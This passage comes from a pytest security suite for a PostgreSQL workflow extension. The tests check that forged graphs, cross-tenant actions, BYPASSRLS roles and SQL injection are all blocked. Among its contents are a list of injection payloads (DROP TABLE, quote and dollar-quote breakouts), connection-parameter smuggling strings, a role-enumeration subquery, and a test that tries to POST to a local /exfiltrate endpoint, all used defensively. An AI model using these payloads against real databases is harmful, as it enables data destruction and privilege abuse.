    error = attacker.error("UPDATE df.instances SET status = NULL WHERE id = %s", (own,))
    assert isinstance(error, psycopg.errors.InsufficientPrivilege), error
    assert status_of(conn, own) == "running"


SQL_LEAF = "SELECT current_user::text AS cu"


@pytest.mark.parametrize(
    ("shape", "message"),
    [
        # (root, nodes) built from ids a, b, c; a is the root.
        ("self_cycle", "reachable twice"),
        ("shared_child", "reachable twice"),
        ("join_back_to_root", "reachable twice"),
        ("missing_condition", "not found"),
        ("foreign_branch", "not found"),
        ("if_config_not_json", "query in IF is not JSON"),
        ("sleep_not_a_number", "invalid duration"),
        ("signal_without_name", "invalid config"),
        ("retry_zero_attempts", "invalid config"),
        ("http_without_url", "invalid config"),
    ],
)
def test_a_malformed_graph_inserted_by_hand_fails_cleanly(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, shape: str, message: str
) -> None:
    victim, attacker = tenants(), tenants()
    foreign = victim.start("df.wait_for_signal('go')")
    foreign_node = conn.execute(
        "SELECT root_node FROM df.instances WHERE id = %s", (foreign,)
    ).fetchone()
    assert foreign_node is not None
    a, b, c = node_id(), node_id(), node_id()
    shapes: dict[str, list[tuple[str, str, str | None, str | None, str | None]]] = {
        "self_cycle": [(a, "THEN", None, a, b), (b, "SQL", SQL_LEAF, None, None)],
        "shared_child": [(a, "THEN", None, b, b), (b, "SQL", SQL_LEAF, None, None)],
        "join_back_to_root": [
            (a, "JOIN", json.dumps({"extra_nodes": [a]}), b, c),
            (b, "SQL", SQL_LEAF, None, None),
            (c, "SQL", SQL_LEAF, None, None),
        ],
        "missing_condition": [
            (a, "IF", json.dumps({"condition_node": "00000bad"}), b, c),
            (b, "SQL", SQL_LEAF, None, None),
            (c, "SQL", SQL_LEAF, None, None),
        ],
        "foreign_branch": [
            (a, "JOIN", json.dumps({"extra_nodes": [foreign_node[0]]}), b, c),
            (b, "SQL", SQL_LEAF, None, None),
            (c, "SQL", SQL_LEAF, None, None),
        ],
        "if_config_not_json": [
            (a, "IF", "not json", b, c),
            (b, "SQL", SQL_LEAF, None, None),
            (c, "SQL", SQL_LEAF, None, None),
        ],
        "sleep_not_a_number": [(a, "SLEEP", "1e9; SELECT 1", None, None)],
        "signal_without_name": [(a, "SIGNAL", '{"timeout_seconds": 1}', None, None)],
        "retry_zero_attempts": [
            (a, "RETRY", '{"max_attempts": 0}', b, None),
            (b, "SQL", SQL_LEAF, None, None),
        ],
        "http_without_url": [(a, "HTTP", '{"method": "GET"}', None, None)],
    }
    instance = forge_graph(attacker, shapes[shape])
    assert wait_terminal(conn, instance) == "failed"
    assert message in output_of(conn, instance)
    # Nothing of it ran, and the worker goes on serving everyone.
    assert conn.execute(
        "SELECT count(*) FROM df.nodes WHERE instance_id = %s AND status = 'completed'",
        (instance,),
    ).fetchone() == (0,)
    victim.value("SELECT df.signal(%s, 'go')", (foreign,))
    assert wait_terminal(conn, foreign) == "completed"


@pytest.mark.parametrize(
    "database",
    [
        "{db} user=postgres",
        "dbname={db} user=postgres",
        "postgresql://postgres@/{db}",
        "{db}' user='postgres",
    ],
)
def test_the_database_column_cannot_smuggle_connection_parameters(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, dbname: str, database: str
) -> None:
    attacker = tenants()
    target = database.format(db=dbname)
    # df.start checks the database exists; a hand-made row does not go through it.
    error = attacker.error("SELECT df.start('SELECT 1', database => %s)", (target,))
    assert "does not exist" in str(error)
    instance = forge_graph(attacker, [(node_id(), "SQL", SQL_LEAF, None, None)], database=target)
    assert wait_terminal(conn, instance) == "failed"
    assert "does not exist" in output_of(conn, instance)


# -- 5. injection through substitution ---------------------------------------------------------

PAYLOADS = [
    "'",
    "''",
    "\\",
    "\\'",
    "it's",
    "'; DROP TABLE canary; --",
    "' || current_user || '",
    "$$",
    "$$; DROP TABLE canary; $$",
    "E'\\''",
    "--",
    "/*",
    "*/ DROP TABLE canary; /*",
    "; SELECT 1",
    "line\nbreak -- comment\n'",
    "ünïcödé 中文 😀 \u2028",
    "$r",
    "$r.v",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_named_results_never_break_out_of_their_literal(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, payload: str
) -> None:
    victim = tenants()
    victim.conn.execute("CREATE TABLE canary (x int)")
    victim.value("SELECT df.setvar('api_key', 'victim-api-key')")
    instance = run(
        conn,
        victim,
        "format('SELECT %%L::text AS v, %%L::jsonb AS j', %s::text, %s::text) |=> 'r'"
        " ~> 'SELECT $r AS a, $r.v AS b, $r.j AS c, (SELECT v FROM $r.*) AS d'",
        (payload, json.dumps({"k": payload})),
    )
    assert status_of(conn, instance) == "completed", output_of(conn, instance)
    row = rows_of(conn, instance)[0]
    assert row == {
        "a": payload,
        "b": payload,
        "c": json.dumps({"k": payload}, separators=(",", ":"), ensure_ascii=False),
        "d": payload,
    }
    assert victim.value("SELECT to_regclass('canary') IS NOT NULL") is True


def test_hostile_column_names_stay_quoted_in_row_set_expansion(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim = tenants()
    victim.conn.execute("CREATE TABLE canary (x int)")
    column = 'a") AS x; DROP TABLE canary; --'
    instance = run(
        conn,
        victim,
        "format('SELECT 1 AS %%I', %s::text) |=> 'r' ~> 'SELECT * FROM $r.*'",
        (column,),
    )
    assert status_of(conn, instance) == "completed", output_of(conn, instance)
    assert rows_of(conn, instance) == [{column: 1}]
    assert victim.value("SELECT to_regclass('canary') IS NOT NULL") is True


def test_data_written_by_another_role_is_not_templated_into_a_step(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    """A victim reads rows another role wrote; ``{var}`` and ``$name`` in them stay text."""
    victim, attacker = tenants(), tenants()
    conn.execute("CREATE TABLE public.inbox (v text)")
    conn.execute(f"GRANT INSERT ON public.inbox TO {attacker.name}")
    conn.execute(f"GRANT SELECT ON public.inbox TO {victim.name}")
    victim.value("SELECT df.setvar('api_key', 'victim-api-key')")
    attacker.conn.execute("INSERT INTO public.inbox VALUES ('{api_key} $q {sys_instance_id}')")
    instance = run(
        conn,
        victim,
        "%s |=> 'q' ~> %s |=> 'r' ~> %s",
        ("SELECT 'QQ' AS q", "SELECT v FROM public.inbox", "SELECT $r AS echo"),
    )
    assert rows_of(conn, instance) == [{"echo": "{api_key} $q {sys_instance_id}"}]


def test_a_victims_instance_never_picks_up_another_roles_variables(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    attacker.value("SELECT df.setvar('table_name', 'pg_authid')")
    attacker.value("SELECT df.setvar('api_key', 'attacker-key')")
    victim.value("SELECT df.setvar('api_key', 'victim-key')")
    instance = run(conn, victim, "%s", ("SELECT '{table_name}' AS t, '{api_key}' AS k",))
    assert rows_of(conn, instance) == [{"t": "{table_name}", "k": "victim-key"}]
    mine = run(conn, attacker, "%s", ("SELECT '{api_key}' AS k",))
    assert rows_of(conn, mine) == [{"k": "attacker-key"}]


@pytest.fixture
def inbox(conn: Conn, tenants: TenantFactory) -> tuple[Any, Any]:
    victim, attacker = tenants(), tenants()
    conn.execute("CREATE TABLE public.inbox (v text, n int)")
    conn.execute(f"GRANT INSERT ON public.inbox TO {attacker.name}")
    conn.execute(f"GRANT SELECT ON public.inbox TO {victim.name}")
    return victim, attacker


def test_a_negative_number_does_not_comment_out_the_rest_of_the_line(
    conn: Conn, inbox: tuple[Any, Any], worker: ThreadWorker
) -> None:
    victim, attacker = inbox
    victim.conn.execute("CREATE TABLE accounts (id int, balance int)")
    victim.conn.execute("INSERT INTO accounts VALUES (1, 100), (2, 100), (3, 100)")
    attacker.conn.execute("INSERT INTO public.inbox (n) VALUES (-5)")  # outside data
    instance = run(
        conn,
        victim,
        "%s |=> 'amt' ~> %s",
        (
            "SELECT n FROM public.inbox",
            "UPDATE accounts SET balance = 0-$amt WHERE id = 1",
        ),
    )
    assert status_of(conn, instance) == "completed", output_of(conn, instance)
    balances = victim.conn.execute("SELECT id, balance FROM accounts ORDER BY id").fetchall()
    assert balances == [(1, 5), (2, 100), (3, 100)], balances


@pytest.mark.parametrize(
    ("template", "payload"),
    [
        ("SELECT $$Dear $r$$ AS msg", "x$$ || current_user || $$"),
        ("SELECT 'Dear $r' AS msg", "' || current_user || '"),
        ("SELECT 'ok' -- note: $r\n AS msg", "x\n|| current_user --"),
        ("SELECT 'ok' /* $r */ AS msg", "*/ || current_user /*"),
    ],
)
def test_a_reference_inside_quotes_or_comments_does_not_let_data_in(
    conn: Conn, inbox: tuple[Any, Any], worker: ThreadWorker, template: str, payload: str
) -> None:
    victim, attacker = inbox
    attacker.conn.execute("INSERT INTO public.inbox (v) VALUES (%s)", (payload,))
    instance = run(conn, victim, "%s |=> 'r' ~> %s", ("SELECT v FROM public.inbox", template))
    if status_of(conn, instance) == "completed":
        msg = rows_of(conn, instance)[0]["msg"]
        assert victim.name not in msg, f"injected: {msg!r}"


# A step's session: the options forced on it win over ALTER ROLE and ALTER DATABASE
# settings, and what one step sets does not reach the next step's substitution.


def test_role_and_database_settings_cannot_override_the_forced_step_options(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, dbname: str
) -> None:
    victim = tenants()
    for setting, value in (
        ("standard_conforming_strings", "off"),
        ("client_encoding", "SJIS"),
        ("df.in_workflow", "false"),
    ):
        conn.execute(f"ALTER ROLE {victim.name} SET {setting} = '{value}'")
        conn.execute(f"ALTER ROLE {victim.name} IN DATABASE {dbname} SET {setting} = '{value}'")
    instance = run(
        conn,
        victim,
        "%s",
        (
            "SELECT current_setting('standard_conforming_strings') AS scs,"
            " current_setting('client_encoding') AS enc,"
            " current_setting('df.in_workflow') AS wf",
        ),
    )
    assert rows_of(conn, instance) == [{"scs": "on", "enc": "UTF8", "wf": "true"}]


def test_a_steps_encoding_and_quoting_settings_do_not_reach_the_next_step(
    conn: Conn, inbox: tuple[Any, Any], dsn: str
) -> None:
    victim, attacker = inbox
    w = ThreadWorker(dsn, concurrency=1)  # one step connection per role: it is reused
    try:
        setter = run(
            conn,
            victim,
            "%s",
            (
                "SELECT set_config('standard_conforming_strings', 'off', false) AS scs,"
                " set_config('client_encoding', 'SJIS', false) AS enc",
            ),
        )
        assert status_of(conn, setter) == "completed", output_of(conn, setter)
        payload = "\\' || current_user || '"
        attacker.conn.execute("INSERT INTO public.inbox (v) VALUES (%s)", (payload,))
        instance = run(
            conn,
            victim,
            "%s |=> 'r' ~> %s",
            (
                "SELECT v FROM public.inbox",
                "SELECT $r AS v, current_setting('standard_conforming_strings') AS scs,"
                " current_setting('client_encoding') AS enc",
            ),
        )
        assert rows_of(conn, instance) == [{"v": payload, "scs": "on", "enc": "UTF8"}]
    finally:
        w.stop()


# Templates PostgreSQL's lexer reads differently from a naive scan, end to end
# (tests/test_substitute_lexer.py checks the class against the lexer itself).

ROLE_LIST = "|| (SELECT string_agg(rolname, chr(44)) FROM pg_roles WHERE rolcanlogin) ||"


def test_a_value_in_a_continued_e_string_stays_text(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    tenant = tenants()
    instance = run(
        conn,
        tenant,
        "%s |=> 'v' ~> %s",
        (
            f"SELECT '{ROLE_LIST}'::text AS data",
            "SELECT E'Dear customer\\n'\n       'it\\'s for $v.data' AS greeting",
        ),
    )
    assert rows_of(conn, instance) == [{"greeting": f"Dear customer\nit's for {ROLE_LIST}"}]


def test_a_value_after_a_unicode_string_with_uescape_stays_text(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    tenant = tenants()
    instance = run(
        conn,
        tenant,
        "%s |=> 'v' ~> %s",
        (
            "SELECT '(SELECT current_user)'::text AS x",
            "SELECT U&'C:\\' UESCAPE '!' || $v AS path",  # a backslash is no escape here
        ),
    )
    assert rows_of(conn, instance) == [{"path": "C:\\(SELECT current_user)"}]


# -- 6. a role with BYPASSRLS (but not superuser) -----------------------------------------------


def test_bypassrls_cannot_run_a_workflow_as_a_superuser(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    attacker = tenants(attributes="BYPASSRLS")
    conn.execute("CREATE TABLE public.proof (who text)")  # only the superuser may write it
    # Refused when written (migration 10). Were such rows written anyway (by the engine), the
    # worker would still refuse the superuser instance: tests/test_identity.py.
    with pytest.raises(psycopg.errors.InsufficientPrivilege, match="must be the current role"):
        forge_graph(
            attacker,
            [(node_id(), "SQL", "INSERT INTO public.proof SELECT current_user", None, None)],
            submitted_by="postgres",
        )
    assert conn.execute("SELECT count(*) FROM df.instances").fetchone() == (0,)
    assert conn.execute("SELECT count(*) FROM public.proof").fetchone() == (0,)


def test_bypassrls_cannot_run_a_workflow_as_another_role(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants(attributes="BYPASSRLS")
    conn.execute("CREATE TABLE public.ledger (who text)")
    conn.execute(f"GRANT INSERT ON public.ledger TO {victim.name}")
    with pytest.raises(psycopg.errors.InsufficientPrivilege, match="must be the current role"):
        forge_graph(
            attacker,
            [(node_id(), "SQL", "INSERT INTO public.ledger SELECT current_user", None, None)],
            submitted_by=victim.name,
        )
    assert conn.execute("SELECT count(*) FROM df.instances").fetchone() == (0,)
    assert conn.execute("SELECT count(*) FROM public.ledger").fetchone() == (0,)


def test_bypassrls_cannot_plant_variables_for_another_role(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants(attributes="BYPASSRLS")
    victim.value("SELECT df.setvar('where_clause', 'id = 1')")
    for statement in (
        f"INSERT INTO df.vars (name, value, owner) VALUES ('table', 'pg_authid', '{victim.name}')",
        "UPDATE df.vars SET value = 'true' WHERE name = 'where_clause'",
        "DELETE FROM df.vars WHERE name = 'where_clause'",
        f"UPDATE df.vars SET owner = '{victim.name}'::regrole WHERE owner = current_user::regrole",
    ):
        attacker.value("SELECT df.setvar('mine', 'x')")
        error = attacker.error(statement)
        assert isinstance(error, psycopg.errors.InsufficientPrivilege), statement
        assert "must be the current role" in str(error)
    instance = run(conn, victim, "%s", ("SELECT '{table}' AS t, '{where_clause}' AS w",))
    assert rows_of(conn, instance) == [{"t": "{table}", "w": "id = 1"}]


def test_bypassrls_cannot_cancel_or_signal_another_roles_instance(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants(attributes="BYPASSRLS")
    instance = victim.start("df.wait_for_signal('approve', 30) |=> 's' ~> 'SELECT $s.data AS d'")
    poll(lambda: status_of(conn, instance) == "running", "the victim's wait")
    # It can read the instance (that is what BYPASSRLS means) ...
    assert attacker.value("SELECT df.status(%s)", (instance,)) == "running"
    # ... but not act on it.
    for statement, sqlstate in (
        ("SELECT df.signal(%s, 'approve', '\"forged\"')", "P0002"),
        ("INSERT INTO df._signals (instance_id, name, data) VALUES (%s, 'approve', '1')", "P0002"),
        ("UPDATE df.instances SET status = 'cancelled' WHERE id = %s", "42501"),
        ("UPDATE df.instances SET status = 'completed' WHERE id = %s", "42501"),
    ):
        assert attacker.error(statement, (instance,)).sqlstate == sqlstate, statement
    said = attacker.value("SELECT df.cancel(%s)", (instance,))
    assert str(said).startswith("Failed to cancel: permission denied"), said
    assert status_of(conn, instance) == "running"
    victim.value("SELECT df.signal(%s, 'approve', '\"real\"')", (instance,))
    assert wait_terminal(conn, instance) == "completed"
    assert rows_of(conn, instance) == [{"d": "real"}]


def test_bypassrls_cannot_write_updated_at_of_another_roles_instance(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants(attributes="BYPASSRLS")
    foreign = victim.start("df.wait_for_signal('go')")
    poll(lambda: status_of(conn, foreign) == "running", "the wait")
    before = conn.execute(
        "SELECT updated_at FROM df.instances WHERE id = %s", (foreign,)
    ).fetchone()
    for stmt in (
        "UPDATE df.instances SET updated_at = '2000-01-01' WHERE id = %s",
        f"INSERT INTO df.instances (id, root_node, submitted_by) VALUES (%s, '00000000',"
        f" '{attacker.name}') ON CONFLICT (id) DO UPDATE SET updated_at = '2000-01-01'",
    ):
        with contextlib.suppress(psycopg.Error):
            attacker.conn.execute(stmt, (foreign,))
    after = conn.execute("SELECT updated_at FROM df.instances WHERE id = %s", (foreign,)).fetchone()
    assert after == before


def test_a_new_transaction_start_cannot_submit_as_another_role(
    conn: Conn, tenants: TenantFactory
) -> None:
    victim, attacker = tenants(), tenants()
    conn.execute("CREATE EXTENSION IF NOT EXISTS dblink")  # pgdurable installs it if it can
    # df.start(..., transaction_mode => 'new') works for the attacker as itself ...
    own = attacker.value("SELECT df.start('SELECT 1', transaction_mode => 'new')")
    assert status_of(conn, str(own)) == "pending"
    # ... and its SECURITY DEFINER helper, called directly with another role's name, does not
    # start anything as that role (its loopback logs in as the caller).
    for role in (victim.name, "postgres"):
        error = attacker.error(
            "SELECT df._start_in_new_transaction('SELECT current_user', NULL, NULL, %s)", (role,)
        )
        assert "which may not SET ROLE to it" in str(error), error
    assert conn.execute(
        "SELECT array_agg(DISTINCT submitted_by::text) FROM df.instances"
    ).fetchone() == ([attacker.name],)


# -- 7. grants ----------------------------------------------------------------------------------

HTTP_SIGNATURE = "df.http(text,text,text,jsonb,integer)"


def test_a_delegated_admin_cannot_hand_out_http(conn: Conn, tenants: TenantFactory) -> None:
    admin, user = tenants(grant=False), tenants(grant=False)
    conn.execute(
        "SELECT df.grant_usage(%s, include_http => false, with_grant => true)", (admin.name,)
    )
    assert isinstance(
        admin.error("SELECT df.grant_usage(%s, true)", (user.name,)),
        psycopg.errors.InsufficientPrivilege,
    )
    error = admin.error(f"GRANT EXECUTE ON FUNCTION {HTTP_SIGNATURE} TO {admin.name}")
    assert isinstance(error, psycopg.errors.InsufficientPrivilege), error
    for role in (admin.name, user.name):
        assert conn.execute(
            "SELECT has_function_privilege(%s, %s, 'EXECUTE')", (role, HTTP_SIGNATURE)
        ).fetchone() == (False,)


def test_a_delegated_admin_cannot_revoke_what_it_did_not_grant(
    conn: Conn, tenants: TenantFactory
) -> None:
    admin, victim = tenants(grant=False), tenants()
    conn.execute("SELECT df.grant_usage(%s, with_grant => true)", (admin.name,))
    admin.conn.execute("SELECT df.revoke_usage(%s)", (victim.name,))
    assert victim.value("SELECT df.status(df.start('SELECT 1'))") == "pending"


def test_private_functions_are_not_executable_by_an_ordinary_role(
    conn: Conn, tenants: TenantFactory
) -> None:
    attacker = tenants()
    private = [
        HTTP_SIGNATURE,
        "df.http_multipart(text,text,jsonb,jsonb,integer)",
        "df.grant_usage(text,boolean,boolean)",
        "df.revoke_usage(text)",
        "df.metrics()",
        "df.refresh_grants()",
    ]
    existing = [
        f for f in private if conn.execute("SELECT to_regprocedure(%s)", (f,)).fetchone() != (None,)
    ]
    assert HTTP_SIGNATURE in existing
    for function in existing:
        assert (
            attacker.value("SELECT has_function_privilege(%s, 'EXECUTE')", (function,)) is False
        ), function


@pytest.mark.parametrize("node_type", ["HTTP", "HTTP_MULTIPART"])
def test_a_hand_built_http_node_is_refused_at_run_time(
    conn: Conn, tenants: TenantFactory, dsn: str, request: pytest.FixtureRequest, node_type: str
) -> None:
    attacker = tenants()
    w = ThreadWorker(dsn, concurrency=2, egress=EgressPolicy(allowed_networks=("127.0.0.1/32",)))
    request.addfinalizer(w.stop)
    with LocalHttpServer() as server:
        server.reply("/exfiltrate")
        config: dict[str, Any] = {
            "url": server.url("/exfiltrate"),
            "method": "POST",
            "headers": None,
            "timeout_seconds": 5,
        }
        if node_type == "HTTP":
            config["body"] = "stolen"
        else:
            config["parts"] = [{"name": "f", "data_b64": "c3RvbGVu"}]
        envelope = json.dumps({"node_type": node_type, "query": json.dumps(config)})
        instance = run(conn, attacker, "%s", (envelope,))
        assert status_of(conn, instance) == "failed"
        assert output_of(conn, instance).startswith(
            f"Blocked: role '{attacker.name}' does not have EXECUTE privilege on df."
        )
        assert server.hits("/exfiltrate") == []


# -- cancel notifications, escapes, hand-made graphs, renamed roles -------------------------------


def test_notify_on_the_cancel_channel_cannot_kill_another_roles_step(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim = tenants()
    stranger = tenants(grant=False)  # not even a pgdurable user: CONNECT is enough
    instance = victim.start("%s", ("SELECT pg_sleep(1.5) AS slept",))
    wait_running_statement(conn, victim.name, "pg_sleep(1.5)")
    stranger.conn.execute("SELECT pg_notify('pgdurable_cancel', %s)", (instance,))
    assert wait_terminal(conn, instance) == "completed", output_of(conn, instance)


def test_named_results_stay_literals_when_backslashes_escape(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    # A legacy application's setting, for the role (or ALTER DATABASE ... SET).
    conn.execute(f"ALTER ROLE {victim.name} SET standard_conforming_strings = off")
    conn.execute("CREATE TABLE public.inbox (v text)")
    conn.execute(f"GRANT INSERT ON public.inbox TO {attacker.name}")
    conn.execute(f"GRANT SELECT ON public.inbox TO {victim.name}")
    payload = "\\' , current_user AS injected --"
    attacker.conn.execute("INSERT INTO public.inbox VALUES (%s)", (payload,))
    instance = run(
        conn, victim, "%s |=> 'r' ~> %s", ("SELECT v FROM public.inbox", "SELECT $r AS v")
    )
    assert status_of(conn, instance) == "completed", output_of(conn, instance)
    assert rows_of(conn, instance) == [{"v": payload}]


def test_a_hand_made_graph_deeper_than_df_start_allows_fails_cleanly(
    conn: Conn, tenants: TenantFactory, dsn: str, request: pytest.FixtureRequest
) -> None:
    attacker = tenants()
    w = ThreadWorker(dsn, concurrency=2, lease_seconds=2)
    request.addfinalizer(w.stop)
    depth = 3000  # df.start refuses more than 256 levels
    thens = [node_id() for _ in range(depth)]
    rights = [node_id() for _ in range(depth)]
    bottom = node_id()
    nodes: list[tuple[str, str, str | None, str | None, str | None]] = [
        (thens[i], "THEN", None, thens[i + 1] if i + 1 < depth else bottom, rights[i])
        for i in range(depth)
    ]
    nodes += [(r, "SQL", "SELECT 1", None, None) for r in rights]
    nodes.append((bottom, "SQL", SQL_LEAF, None, None))
    instance = forge_graph(attacker, nodes)
    assert wait_terminal(conn, instance, timeout=5) == "failed"
    assert "depth" in output_of(conn, instance)


def test_a_renamed_role_does_not_lend_its_pooled_connections_to_a_new_role_of_that_name(
    cluster: EmbeddedPostgres, dbname: str, conn: Conn, worker: ThreadWorker
) -> None:
    name, old = f"t_{uuid.uuid4().hex[:10]}", f"t_{uuid.uuid4().hex[:10]}"
    conn.execute(f"CREATE ROLE {name} LOGIN")
    conn.execute("SELECT df.grant_usage(%s)", (name,))
    conn.execute("CREATE TABLE public.payroll (salary int)")
    conn.execute(f"GRANT SELECT ON public.payroll TO {name}")
    try:
        with psycopg.connect(cluster.dsn(dbname, user=name), autocommit=True) as c:
            first = Tenant(name, c)
            warm = run(conn, first, "'SELECT 1'")  # leaves a pooled connection as the role
            assert status_of(conn, warm) == "completed"
        # An administrator renames the role and gives the name to somebody new.
        conn.execute(f"ALTER ROLE {name} RENAME TO {old}")
        conn.execute(f"CREATE ROLE {name} LOGIN")
        conn.execute("SELECT df.grant_usage(%s)", (name,))
        with psycopg.connect(cluster.dsn(dbname, user=name), autocommit=True) as c:
            newcomer = Tenant(name, c)
            instance = run(
                conn,
                newcomer,
                "%s",
                ("SELECT session_user::text AS su, (SELECT count(*) FROM public.payroll) AS n",),
            )
        # The step must run as the new role (no access to payroll), not as the renamed one.
        assert status_of(conn, instance) == "failed", output_of(conn, instance)
        assert "permission denied for table payroll" in output_of(conn, instance)
    finally:
        for role in (name, old):
            conn.execute(f"DROP OWNED BY {role}")
            conn.execute(f"DROP ROLE {role}")
